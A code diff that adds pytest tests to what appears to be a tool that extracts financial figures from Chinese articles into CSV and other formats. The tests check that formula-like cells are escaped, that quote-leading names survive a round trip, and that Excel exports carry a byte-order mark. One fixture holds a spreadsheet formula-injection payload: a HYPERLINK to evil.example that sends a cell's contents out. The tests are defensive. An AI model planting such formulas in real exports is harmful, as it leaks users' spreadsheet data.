@@ -302,3 +302,67 @@ def test_a_table_missing_a_required_value_is_bad_input_for_diff(tmp_path):
         csv.writer(fh).writerows(rows)
     result = runner.invoke(app, ["diff", str(good), str(bad)])
     assert result.exit_code == 2 and "column 'start' is empty in row 1" in result.output
+
+
+# --- CSV formula injection ----------------------------------------------------------
+
+HOSTILE = ('=HYPERLINK("http://evil.example/?x="&A1,"点击")，该公司第三季度营收同比下降12%，'
+           '净利润为-8,000万元。\n@SUM(1+1) 公司估值约300亿元。\n')
+
+
+def test_csv_text_cells_never_start_a_formula_and_read_back_exact(tmp_path):
+    """A spreadsheet runs a cell that begins with = + - @ tab or CR; every such text
+    cell gets a leading ', numbers stay numbers, and zfacts reads the text back exact."""
+    from zhipu_facts.table.read import read_facts
+
+    article = tmp_path / "=cmd_2024-10-04.txt"  # the file name is a text cell too
+    article.write_text(HOSTILE, encoding="utf-8")
+    csv_out, jsonl_out = tmp_path / "f.csv", tmp_path / "f.jsonl"
+    for out in (csv_out, jsonl_out):
+        assert runner.invoke(app, ["extract", str(article), "-o", str(out)]).exit_code == 0
+    import csv
+
+    with open(csv_out, encoding="utf-8") as fh:
+        rows = list(csv.DictReader(fh))
+    numeric = {"value", "low", "high", "value_cny", "fx_rate", "start", "end", "line"}
+    for row in rows:
+        for col, cell in row.items():
+            if col not in numeric:
+                assert cell[:1] not in set("=+-@\t\r"), (col, cell)
+    loss = next(r for r in rows if "8,000万元" in r["text"])
+    assert loss["text"] == "'-8,000万元" and float(loss["value"]) == -8e7
+    assert all(r["source"].startswith("'=") for r in rows)
+    assert any(r["quote"].startswith("'=HYPERLINK") for r in rows)
+    exact = read_facts(csv_out)
+    assert exact["text"].tolist() == read_facts(jsonl_out)["text"].tolist()
+    assert "-8,000万元" in set(exact["text"]) and set(exact["source"]) == {article.name}
+    assert runner.invoke(app, ["diff", str(csv_out), str(jsonl_out)]).exit_code == 0
+
+
+def test_a_text_that_starts_with_a_quote_mark_reads_back_unchanged(tmp_path):
+    from zhipu_facts.table.read import read_facts
+
+    article = tmp_path / "'引号开头.txt"
+    article.write_text("公司营收30亿元。\n", encoding="utf-8")
+    out = tmp_path / "f.csv"
+    assert runner.invoke(app, ["extract", str(article), "-o", str(out)]).exit_code == 0
+    assert "''引号开头.txt" in out.read_text(encoding="utf-8")
+    assert set(read_facts(out)["source"]) == {"'引号开头.txt"}
+
+
+def test_excel_csv_has_a_byte_order_mark_and_reads_back(tmp_path):
+    from zhipu_facts.table.read import read_facts
+
+    seed = next(SEEDS.glob("000_*.txt"))
+    plain, excel, parquet = tmp_path / "a.csv", tmp_path / "b.csv", tmp_path / "c.parquet"
+    assert runner.invoke(app, ["extract", str(seed), "-o", str(plain)]).exit_code == 0
+    result = runner.invoke(app, ["extract", str(seed), "--excel", "-o", str(excel), "-o", str(parquet)])
+    assert result.exit_code == 0, result.output
+    assert excel.read_bytes() == b"\xef\xbb\xbf" + plain.read_bytes()
+    assert not parquet.read_bytes().startswith(b"\xef\xbb\xbf")  # --excel is about CSV only
+    assert read_facts(excel).equals(read_facts(plain))
+    assert runner.invoke(app, ["extract", str(seed), "--format", "excel", "-o", str(tmp_path / "d.csv")]).exit_code == 0
+    assert (tmp_path / "d.csv").read_bytes() == excel.read_bytes()
+    compared = tmp_path / "cmp.csv"
+    assert runner.invoke(app, ["compare", str(parquet), "--excel", "-o", str(compared)]).exit_code == 0
+    assert compared.read_bytes().startswith(b"\xef\xbb\xbfgroup,")
